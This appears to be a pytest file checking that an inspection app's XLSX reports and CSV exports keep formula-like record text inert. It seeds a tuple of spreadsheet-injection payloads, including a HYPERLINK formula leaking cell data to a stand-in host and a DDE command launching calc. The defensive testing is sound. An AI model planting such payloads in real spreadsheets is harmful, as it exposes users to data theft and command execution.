"""Spreadsheets are inert: text from the records never becomes a formula in a file the app writes.

Districts named like formulas (a hyperlink, a DDE command, a sum) go through ``inspector report``;
the workbook is read back with openpyxl (every such cell a string cell, no formula) and converted by
LibreOffice to CSV, which holds the characters as typed, never a computed value. The CSV writer the
exports share is checked the same way.
"""

from __future__ import annotations

import csv
import datetime as dt
import os
import subprocess
import uuid
from pathlib import Path

import pytest
from openpyxl import load_workbook

from inspector.cli import main
from inspector.documents.pdf import find_soffice
from inspector.services import stats_summary
from inspector.services.form_snapshots import store_snapshot
from inspector.services.local_time_sql import local_offset
from inspector.spreadsheet import csv_bytes, csv_field, looks_like_formula
from inspector.storage.db import Database
from inspector.storage.models import Answer, Inspection, Site
from inspector.storage.types import utcnow
from tests.factories import FORM_ID, checklist

HOSTILE = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-3+4",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=2+2",
)


def _hostile_districts(db: Database) -> None:
    """One site in each hostile district, each with a finalized inspection that has a finding."""
    now = utcnow()
    with db.write() as s:
        sha = store_snapshot(s, checklist())
        for n, district in enumerate(HOSTILE):
            site = Site(id=uuid.uuid4(), kind="clinic", name=f"诊所{n}", district=district, search_text="x")
            s.add(site)
            s.flush()
            insp = Inspection(
                id=uuid.uuid4(),
                site_id=site.id,
                kind="routine",
                form_id=FORM_ID,
                form_version="1",
                form_sha256=sha,
                status="finalized",
                started_at=now,
            )
            s.add(insp)
            s.flush()
            s.add(
                Answer(
                    id=uuid.uuid4(),
                    inspection_id=insp.id,
                    item_code="=1+1",
                    result="non_compliant",
                    finding="",
                )
            )
        s.flush()
        stats_summary.rebuild(s, local_offset())


def _report(data_dir: Path, out: Path, capsys: pytest.CaptureFixture[str]) -> None:
    today = utcnow().date()
    first, last = today - dt.timedelta(days=366), today + dt.timedelta(days=1)
    args = ["report", "--from", first.isoformat(), "--to", last.isoformat(), "--out", str(out)]
    code = main([*args, "--data-dir", str(data_dir)])
    _out, err = capsys.readouterr()
    assert code == 0, err


def test_report_cells_from_records_are_text_in_openpyxl(
    sqlite_db: Database, data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _hostile_districts(sqlite_db)
    out = tmp_path / "report.xlsx"
    _report(data_dir, out, capsys)
    wb = load_workbook(out)
    seen: dict[str, str] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and looks_like_formula(cell.value):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} lacks the quote prefix"
                    seen[cell.value] = cell.data_type
    assert set(HOSTILE) <= set(seen)  # every district came out, as typed
    assert "=1+1" in seen  # the item code too


@pytest.mark.slow
def test_libreoffice_reads_the_report_as_text(
    sqlite_db: Database, data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    soffice = find_soffice()
    assert soffice is not None, "LibreOffice is needed for this test (make deps installs it)"
    _hostile_districts(sqlite_db)
    out = tmp_path / "report.xlsx"
    _report(data_dir, out, capsys)
    csv_dir = tmp_path / "csv"
    profile = (tmp_path / "lo-profile").as_uri()
    # 44,34,76: comma, double quote, UTF-8; the last field -1 writes every sheet to its own file.
    target = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    where = ("--outdir", str(csv_dir), str(out))
    done = subprocess.run(
        [str(soffice), f"-env:UserInstallation={profile}", "--headless", "--convert-to", target, *where],
        check=False,
        capture_output=True,
        text=True,
        timeout=180,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    assert "could not be loaded" not in done.stderr, "LibreOffice Calc is missing: `make deps` installs it"
    assert done.returncode == 0, done.stderr
    cells: set[str] = set()
    for path in sorted(csv_dir.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as f:
            cells.update(value for row in csv.reader(f) for value in row)
    assert cells, "LibreOffice wrote no CSV"
    cells = {_lines(c) for c in cells}  # a CR inside a cell may come back as a line feed
    for text in HOSTILE:
        assert _lines(text) in cells, f"{text!r} was not kept as text by LibreOffice"
    assert "=1+1" in cells


def _lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_fields_start_with_an_apostrophe(text: str) -> None:
    assert csv_field(text) == "'" + text
    data = csv_bytes(["district"], [[text], ["城关镇"], [3]]).decode("utf-8-sig")
    rows = list(csv.reader(data.splitlines(keepends=True)))
    assert rows[1] == ["'" + text]
    assert rows[2:] == [["城关镇"], ["3"]]
